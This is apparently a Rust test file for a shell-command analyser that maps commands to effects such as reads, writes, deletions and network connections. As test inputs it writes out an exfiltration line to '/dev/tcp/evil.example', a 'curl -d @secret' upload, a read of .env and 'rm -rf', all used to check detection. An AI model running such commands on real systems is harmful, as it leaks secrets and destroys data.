//! Effects: what commands do by the table and by their redirections.

use super::plans::{does, plan};
use crate::EffectKind::{Any, Connects, Deletes, Executes, Reads, SetsEnv, Writes};
use crate::Extent;

#[test]
fn effects_come_from_the_table_and_from_redirections() {
    does("ls -la src", &[]);
    does(
        "cat a ../b - /dev/null",
        &[(Reads, Some("/w/a")), (Reads, Some("/b"))],
    );
    does("grep -n foo a", &[(Reads, Some("/w/a"))]);
    does("head -5 a", &[(Reads, Some("/w/a"))]);
    does(
        "sort -o out in",
        &[(Writes, Some("/w/out")), (Reads, Some("/w/in"))],
    );
    does(
        "cat < a > b 2>&1",
        &[(Reads, Some("/w/a")), (Writes, Some("/w/b"))],
    );
    does("ls > /dev/null 2>/dev/null", &[]);
    does(
        "echo x > /dev/tcp/evil.example/80",
        &[(Connects, Some("evil.example"))],
    );
    does(
        "echo x >> .git/config",
        &[
            (Writes, Some("/w/.git/config")),
            (Executes, Some("/w/.git/config")),
        ],
    );
}

#[test]
fn what_moves_fetches_or_is_not_known_has_its_effects() {
    does(
        "cp a d",
        &[
            (Reads, Some("/w/a")),
            (Writes, Some("/w/d")),
            (Writes, Some("/w/d/a")),
        ],
    );
    does(
        "mv a b",
        &[
            (Reads, Some("/w/a")),
            (Deletes, Some("/w/a")),
            (Writes, Some("/w/b")),
            (Writes, Some("/w/b/a")),
        ],
    );
    does(
        "curl -s https://H.example/x -o f",
        &[(Writes, Some("/w/f")), (Connects, Some("h.example"))],
    );
    does(
        "curl -d @secret h.example",
        &[(Reads, Some("/w/secret")), (Connects, Some("h.example"))],
    );
    does(
        "frobnicate a=b",
        &[(Any, None), (Any, Some("/w/a=b")), (Any, Some("/w/b"))],
    );
    does("cat --unheard", &[(Any, None)]);
    does("x=1", &[(SetsEnv, Some("x"))]);
    does("X=1 cat", &[(Executes, Some("X"))]);
    does(
        "date -s now",
        &[(Any, None), (Any, Some("/w/-s")), (Any, Some("/w/now"))],
    );
    does(
        "git show HEAD:.env",
        &[
            (Reads, Some("/w")),
            (Reads, Some("/w/HEAD:.env")),
            (Reads, Some("/w/.env")),
        ],
    );
    does("> f", &[(Writes, Some("/w/f"))]);
    does("sed -n 10p f", &[(Reads, Some("/w/f"))]);
    does("LANG=C date +%s", &[]);
}

#[test]
fn a_recursive_effect_reaches_all_below() {
    let tree = |text: &str| {
        plan(text)
            .effects
            .iter()
            .map(|effect| (effect.value.clone(), effect.extent))
            .collect::<Vec<_>>()
    };
    assert_eq!(tree("rm -rf a"), [(Some("/w/a".to_owned()), Extent::Tree)]);
    assert_eq!(
        tree("grep -rn foo"),
        [(Some("/w".to_owned()), Extent::Tree)]
    );
    assert_eq!(
        tree("cat ./src/*.rs"),
        [(Some("/w/src".to_owned()), Extent::Tree)]
    );
    assert_eq!(
        tree("find src -delete"),
        [(Some("/w/src".to_owned()), Extent::Tree)]
    );
}
